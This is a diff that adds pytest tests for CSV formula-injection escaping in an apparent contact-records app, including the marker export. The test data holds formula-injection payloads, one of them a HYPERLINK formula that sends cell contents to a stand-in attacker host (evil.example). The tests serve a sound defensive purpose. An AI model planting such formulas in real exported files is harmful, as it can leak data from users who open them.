@@ -162,3 +162,45 @@ def test_json_escapes_of_new_lines_are_not_control_characters(api, customer):
     assert "\\n" in raw
     response = api.client.post("/api/v1/contacts", raw, content_type="application/json")
     assert response.status_code == 201
+
+
+FORMULAS = ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", "\uff1d1+1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_the_one_csv_writer_keeps_formulas_as_text(text):
+    from faircontact.core.csvfile import cell
+
+    assert cell(text) == "'" + text and cell("plain") == "plain" and cell(-5) == "-5" and cell(None) == ""
+
+
+def test_the_marker_export_escapes_formulas(make_user, api_for, customer, db):
+    """Issue 14 §5: the report CSVs escaped formulas, the marker export did not."""
+    from datetime import date
+
+    from faircontact.records.models import Marker
+
+    admin = api_for(make_user("register_admin", name="@SUM(1+1) Staff"))
+    Customer.objects.filter(pk=customer["id"]).update(reference='=HYPERLINK("http://evil.example/?"&A1)')
+    Marker.objects.create(
+        customer_id=customer["id"], type="protocol_in_place", since=date(2026, 1, 5), set_by=admin.user
+    )
+    text = admin.get("/markers/export", format="csv").content.decode()
+    assert text.splitlines()[1].split(",")[1].startswith("\"'=HYPERLINK(")
+    assert ",'@SUM(1+1) Staff" in text
+    assert "\n=" not in text and ",=" not in text and ',"=' not in text
+
+
+def test_every_csv_the_product_writes_goes_through_the_one_writer():
+    """A guard: ``csv.writer`` / ``csv.DictWriter`` appear only in ``core/csvfile.py``."""
+    from pathlib import Path
+
+    import faircontact
+
+    root = Path(faircontact.__file__).parent
+    writers = [
+        str(p.relative_to(root))
+        for p in root.rglob("*.py")
+        if ("csv.writer(" in (t := p.read_text()) or "csv.DictWriter(" in t) and p.name != "csvfile.py"
+    ]
+    assert writers == []
